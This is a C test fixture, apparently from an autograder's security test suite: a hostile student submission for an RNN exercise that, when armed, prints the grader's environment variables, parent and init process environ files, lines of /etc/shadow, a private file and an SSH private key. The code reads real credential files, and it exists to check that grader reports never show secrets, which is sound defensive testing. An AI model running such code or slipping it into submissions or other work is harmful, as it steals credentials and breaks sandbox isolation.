/* An attack on the boundary, armed by tests/grade_hostile.sh: it reads what the grader
 * knows and the student does not, and prints it for the report to show: a variable of the
 * grader's environment, /proc/self, parent and init's environ, a private file of the
 * grader's user (mode 600), a key in its $HOME/.ssh, and /etc/shadow.
 * exercise: rnn_step
 * expect: wrong values
 * must not: show a secret in any report format
 */
/* @ARM@ */
#define _GNU_SOURCE
#include "gradlab_exercise.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifdef GRADLAB_ATTACK_ARMED
/* Print what path holds, NULs as spaces, the lines that hold "s3cr3t" first. */
static void show_file(const char *path)
{
	static char buf[65536];
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return;
	for (ssize_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = '\n';
	buf[n] = '\0';
	for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n"))
		if (strstr(line, "s3cr3t"))
			printf("%s: %s\n", path, line);
}

static void leak(void)
{
	static int done;
	if (done++)
		return;
	const char *v = getenv("GRADLAB_TEST_SECRET");
	printf("env: %s\n", v ? v : "(none)");
	char path[4200];
	snprintf(path, sizeof path, "/proc/self/environ");
	show_file(path);
	show_file("/proc/1/environ");
	/* the parent, and its parents up the tree */
	int pid = (int)getppid();
	for (int up = 0; up < 4 && pid > 1; up++) {
		snprintf(path, sizeof path, "/proc/%d/environ", pid);
		show_file(path);
		snprintf(path, sizeof path, "/proc/%d/stat", pid);
		FILE *f = fopen(path, "r");
		int parent = 0;
		if (!f || fscanf(f, "%*d (%*[^)]) %*c %d", &parent) != 1)
			parent = 0;
		if (f)
			fclose(f);
		pid = parent;
	}
	FILE *shadow = fopen("/etc/shadow", "r");
	if (shadow) {
		char line[512];
		for (int i = 0; i < 3 && fgets(line, sizeof line, shadow); i++)
			printf("/etc/shadow: %s", line);
		fclose(shadow);
	}
	show_file("@SECRET_FILE@");
	show_file("@HOME@/.ssh/id_gradlab");
	const char *home = getenv("HOME");
	if (home) {
		snprintf(path, sizeof path, "%.4000s/.ssh/id_gradlab", home);
		show_file(path);
	}
	fflush(stdout);
}
#endif

void rnn_step_forward(double *h_next, const double *x, const double *h_prev, const double *W_ih,
		      const double *W_hh, const double *b_ih, const double *b_hh, int B, int I,
		      int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	leak();
#endif
}

void rnn_step_backward(double *dx, double *dh_prev, double *dW_ih, double *dW_hh, double *db_ih,
		       double *db_hh, const double *dh_next, const double *x,
		       const double *h_prev, const double *h_next, const double *W_ih,
		       const double *W_hh, int B, int I, int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	leak();
#endif
}
